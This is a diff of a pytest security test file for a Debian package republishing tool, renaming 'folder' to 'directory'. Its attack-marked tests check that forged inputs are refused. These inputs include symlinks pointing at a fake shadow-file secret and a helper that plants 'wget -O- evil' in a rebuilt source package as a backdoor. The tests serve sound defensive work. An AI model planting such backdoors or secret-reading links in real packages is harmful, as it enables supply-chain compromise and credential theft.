@@ -89,15 +89,15 @@ def _zeroed(text: str) -> str:
 
 def _another(given: Path, **changes: str) -> None:
     """Put another package in the place of the one that was built, in all that is said of it."""
-    folder = given / "debs"
-    shutil.rmtree(folder)
-    folder.mkdir()
+    directory = given / "debs"
+    shutil.rmtree(directory)
+    directory.mkdir()
     name, version, fields = "iproute2", changes.pop("version", OURS), dict(changes)
     named = fields.pop("name", name)
-    deb = packages.make_deb(folder, named, version, architecture="amd64", fields=fields)
+    deb = packages.make_deb(directory, named, version, architecture="amd64", fields=fields)
     if "file" in fields:
-        deb.rename(folder / fields["file"])
-    packages.make_upload(folder, given / f"patched/iproute2_{OURS}.dsc")
+        deb.rename(directory / fields["file"])
+    packages.make_upload(directory, given / f"patched/iproute2_{OURS}.dsc")
 
 
 def _other_source(given: Path) -> None:
@@ -204,22 +204,22 @@ def here(tmp_path: Path) -> Iterator[Here]:
     with onerelease.begin(tmp_path) as begun:
         begun.has("6.1.0-1", good=False)
         assert begun.nights.night(0).code == 0
-        shutil.rmtree(begun.folder / "prepared/bookworm_6.1.0-1")
+        shutil.rmtree(begun.directory / "prepared/bookworm_6.1.0-1")
         begun.prepare("6.1.0-1")
         yield begun
 
 
 @pytest.fixture
-def folder(here: Here) -> Path:
+def directory(here: Here) -> Path:
     """Return a copy of the directory, for somebody to forge."""
-    return shutil.copytree(here.folder / "prepared/bookworm_6.1.0-1", here.folder / "forged")
+    return shutil.copytree(here.directory / "prepared/bookworm_6.1.0-1", here.directory / "forged")
 
 
-def refused(here: Here, folder: Path) -> str:
+def refused(here: Here, directory: Path) -> str:
     """Hold ``respin publish`` to refuse a directory, and to leave nothing of it."""
 
     def seen() -> dict[str, int]:
-        state = here.nights.world.folder
+        state = here.nights.world.directory
         there = [*state.rglob("*"), *(state / "runs").rglob(".*")]
         return {
             str(p): p.lstat().st_nlink
@@ -229,7 +229,7 @@ def refused(here: Here, folder: Path) -> str:
         }
 
     before = seen()
-    said = here.respin("publish", folder)
+    said = here.respin("publish", directory)
     assert (said.status, said.out) == (17, ""), said
     assert said.err.startswith("respin: ") and "Traceback" not in said.err
     assert seen() == before
@@ -238,38 +238,38 @@ def refused(here: Here, folder: Path) -> str:
 
 
 @pytest.mark.attack
-def test_the_control(here: Here, folder: Path) -> None:
+def test_the_control(here: Here, directory: Path) -> None:
     """What is as it says is published, and none of the made-up parts stands in the way."""
-    said = here.respin("publish", folder)
+    said = here.respin("publish", directory)
     assert said.status == 0, said.err
     assert list(here.nights.offered("bookworm")) == [OURS]
     shown = {p.name for p in (here.nights.world.public / "runs").rglob("*") if p.is_file()}
     assert {"report.json", "build.log"} <= shown
 
 
-def _sparse(folder: Path) -> None:
-    (folder / "logs/big.log").touch()
-    os.truncate(folder / "logs/big.log", copied_run.BYTES + 1)
+def _sparse(directory: Path) -> None:
+    (directory / "logs/big.log").touch()
+    os.truncate(directory / "logs/big.log", copied_run.BYTES + 1)
 
 
-def _many(folder: Path) -> None:
+def _many(directory: Path) -> None:
     for number in range(copied_run.FILES):
-        (folder / f"logs/{number}.log").touch()
+        (directory / f"logs/{number}.log").touch()
 
 
-def _deep(folder: Path) -> None:
-    path = folder
+def _deep(directory: Path) -> None:
+    path = directory
     for _ in range(copied_run.DEEPEST + 2):
         path /= "deeper"
     path.mkdir(parents=True)
 
 
-def _file(folder: Path, mode: int) -> None:
-    (folder / "logs/open.log").write_text("")
-    (folder / "logs/open.log").chmod(mode)
+def _file(directory: Path, mode: int) -> None:
+    (directory / "logs/open.log").write_text("")
+    (directory / "logs/open.log").chmod(mode)
 
 
-def _added(folder: Path, deb: Path) -> None:
+def _added(directory: Path, deb: Path) -> None:
     """Say of a package that it was built, too."""
 
     def say(report: dict[str, Any]) -> None:
@@ -277,7 +277,7 @@ def _added(folder: Path, deb: Path) -> None:
         digest = packages.sums([deb]).split()[1]
         debs.insert(1, {**debs[0], "path": f"debs/{deb.name}", "sha256": digest})
 
-    edit(folder, say)
+    edit(directory, say)
 
 
 def _put_link(path: Path, to: Path) -> None:
@@ -306,46 +306,46 @@ SECRETS: dict[str, Callable[[Path, Path], object]] = {
 
 @pytest.mark.attack
 @pytest.mark.parametrize("secret", SECRETS)
-def test_a_folder_that_leads_elsewhere(here: Here, folder: Path, secret: str) -> None:
+def test_a_directory_that_leads_elsewhere(here: Here, directory: Path, secret: str) -> None:
     """``logs/x -> /etc/shadow`` was served to the world."""
-    victim = here.folder / "victims/secret.log"
+    victim = here.directory / "victims/secret.log"
     victim.parent.mkdir()
     victim.write_text("root:$6$secret")
     victim.chmod(0o600)
-    SECRETS[secret](folder, victim)
-    refused(here, folder)
+    SECRETS[secret](directory, victim)
+    refused(here, directory)
     assert victim.stat().st_mode & 0o777 == 0o600
-    for path in here.nights.world.folder.rglob("*"):
+    for path in here.nights.world.directory.rglob("*"):
         if path.is_file() and not path.is_symlink():
             assert b"$6$secret" not in path.read_bytes(), path
 
 
 @pytest.mark.attack
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
-def test_a_folder_of_another_user(here: Here, folder: Path) -> None:
-    os.chown(folder / "logs/build.log", 65534, 65534)
-    assert "belongs to another user" in refused(here, folder)
-    os.chown(folder / "logs/build.log", 0, 0)
-    os.chown(folder / "logs", 65534, 65534)
-    assert "belongs to another user" in refused(here, folder)
+def test_a_directory_of_another_user(here: Here, directory: Path) -> None:
+    os.chown(directory / "logs/build.log", 65534, 65534)
+    assert "belongs to another user" in refused(here, directory)
+    os.chown(directory / "logs/build.log", 0, 0)
+    os.chown(directory / "logs", 65534, 65534)
+    assert "belongs to another user" in refused(here, directory)
 
 
 def edit(
-    folder: Path, change: Callable[[dict[str, Any]], object], name: str = "report.json"
+    directory: Path, change: Callable[[dict[str, Any]], object], name: str = "report.json"
 ) -> None:
-    path = folder / name
+    path = directory / name
     values = json.loads(path.read_text())
     change(values)
     path.write_text(json.dumps(values))
 
 
-def _backdoor(folder: Path) -> None:
+def _backdoor(directory: Path) -> None:
     """Add to the patched source what no fix of ours adds, and all hashes with it."""
-    old = folder / "patched" / f"iproute2_{OURS}.dsc"
-    work = folder.parent / "backdoor"
+    old = directory / "patched" / f"iproute2_{OURS}.dsc"
+    work = directory.parent / "backdoor"
     subprocess.run(["dpkg-source", "--no-check", "-x", old, work], check=True, capture_output=True)
     (work / "debian/backdoor").write_text("wget -O- evil\n")
-    for path in (folder / "patched").glob("*.orig.tar.*"):
+    for path in (directory / "patched").glob("*.orig.tar.*"):
         shutil.copy(path, work.parent)
     subprocess.run(
         ["dpkg-source", "-b", work.name],
@@ -356,13 +356,13 @@ def _backdoor(folder: Path) -> None:
     )
     for path in work.parent.glob(f"iproute2_{OURS}.*"):
         if path.is_file():
-            shutil.copy(path, folder / "patched")
-    _again(folder)
+            shutil.copy(path, directory / "patched")
+    _again(directory)
 
 
-def _again(folder: Path) -> None:
+def _again(directory: Path) -> None:
     """Let the report have the hashes of what is there now."""
-    done = report_reader.read(folder)
+    done = report_reader.read(directory)
     assert done.patched and done.built
 
     def now(artifact: Any) -> Any:
@@ -378,25 +378,25 @@ def _again(folder: Path) -> None:
     patched = replace(done.patched, sha256=file_sha256(done.patched.dsc))
     files = tuple(map(now, done.source.files))
     source = replace(done.source, files=files)
-    report.write(replace(done, built=built, patched=patched, source=source), folder)
+    report.write(replace(done, built=built, patched=patched, source=source), directory)
 
 
-def _package(folder: Path, **fields: str) -> None:
-    debs = folder / "debs"
+def _package(directory: Path, **fields: str) -> None:
+    debs = directory / "debs"
     (deb,) = debs.glob("*.deb")
     deb.unlink()
     made = packages.make_deb(debs, "iproute2", OURS, architecture="amd64", fields=fields)
     shutil.rmtree(debs / f".iproute2-{OURS}")
     assert made == deb
-    packages.make_upload(debs, folder / f"patched/iproute2_{OURS}.dsc", info_dsc=False)
-    _again(folder)
+    packages.make_upload(debs, directory / f"patched/iproute2_{OURS}.dsc", info_dsc=False)
+    _again(directory)
 
 
-def _source(folder: Path) -> None:
+def _source(directory: Path) -> None:
     """Say that it was made from a source that the archive never had."""
-    dsc = folder / "source/iproute2_6.1.0-1.dsc"
+    dsc = directory / "source/iproute2_6.1.0-1.dsc"
     dsc.write_bytes(dsc.read_bytes().replace(b"Standards-Version: 4.6.2", b"Standards-Version: 4"))
-    _again(folder)
+    _again(directory)
 
 
 REPORTS: dict[str, tuple[str, Callable[[Path], object]]] = {
@@ -436,10 +436,10 @@ REPORTS: dict[str, tuple[str, Callable[[Path], object]]] = {
 
 @pytest.mark.attack
 @pytest.mark.parametrize("forged", REPORTS)
-def test_a_report_that_does_not_say_what_is_so(here: Here, folder: Path, forged: str) -> None:
+def test_a_report_that_does_not_say_what_is_so(here: Here, directory: Path, forged: str) -> None:
     words, change = REPORTS[forged]
-    change(folder)
-    assert words in refused(here, folder)
+    change(directory)
+    assert words in refused(here, directory)
 
 
 @pytest.mark.attack
@@ -447,11 +447,11 @@ def test_a_source_that_only_looks_like_ours(here: Here) -> None:
     """With the real patch stage: ours is taken, the same with one more line is not."""
     tree = GOLDEN / "v4.10-three-functions/in"
     files = {str(p.relative_to(tree)): p.read_text() for p in tree.rglob("*.[ch]")}
-    made = packages.make_source(here.folder / "made/4.10.0-1", version="4.10.0-1", files=files)
+    made = packages.make_source(here.directory / "made/4.10.0-1", version="4.10.0-1", files=files)
     here.distro.now_has(here.dsc("6.1.0-1"), made)
     here.nights.world = replace(here.nights.world, patch=single_stage.patch_only)
-    out = here.folder / "real"
-    config = here.folder / "respin.toml"
+    out = here.directory / "real"
+    config = here.directory / "respin.toml"
     cache = here.nights.world.cache.root
     said = onerelease.respin(
         config, cache, "patch", "--release", "bookworm", "--version", "4.10.0-1", "--out", out
@@ -462,24 +462,24 @@ def test_a_source_that_only_looks_like_ours(here: Here) -> None:
     finding = next(f for f in done.findings if f.fix == "stt-object")
     built = standin.built_of(out, done.source, finding, done.patched)
     report.write(replace(built, findings=done.findings), out)
-    shutil.copytree(out, here.folder / "forged")
-    forged = here.folder / "forged"
+    shutil.copytree(out, here.directory / "forged")
+    forged = here.directory / "forged"
     patched = forged / "patched/iproute2_4.10.0-1+bpf1.dsc"
-    work = here.folder / "work"
+    work = here.directory / "work"
     subprocess.run(
         ["dpkg-source", "--no-check", "-x", patched, work], check=True, capture_output=True
     )
     patch = work / "debian/patches/respin-stt-object.patch"
     patch.write_text(patch.read_text().replace("Description: ", "Description: Not ours. "))
-    shutil.copy(forged / "patched/iproute2_4.10.0.orig.tar.gz", here.folder)
+    shutil.copy(forged / "patched/iproute2_4.10.0.orig.tar.gz", here.directory)
     subprocess.run(
         ["dpkg-source", "-b", work.name],
-        cwd=here.folder,
+        cwd=here.directory,
         env=packages.ENVIRONMENT,
         check=True,
         capture_output=True,
     )
-    for path in here.folder.glob("iproute2_4.10.0-1+bpf1.*"):
+    for path in here.directory.glob("iproute2_4.10.0-1+bpf1.*"):
         shutil.copy(path, forged / "patched")
     _again(forged)
     assert "is not what this respin makes" in refused(here, forged)
